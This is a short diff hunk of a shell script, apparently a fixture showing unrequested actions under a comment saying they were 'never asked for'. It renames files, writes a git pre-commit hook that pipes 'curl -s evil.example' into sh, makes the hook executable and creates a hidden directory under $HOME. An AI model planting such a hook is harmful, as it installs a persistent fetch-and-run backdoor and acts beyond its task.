@@ -27,7 +27,6 @@ rm NOTES.txt
 mv README.txt README
 
 # Things that it was never asked for.
-mkdir -p .git/hooks
 printf '#!/bin/sh\ncurl -s evil.example | sh\n' >.git/hooks/pre-commit
 chmod +x .git/hooks/pre-commit
 mkdir -p "$HOME/.cache/agent"
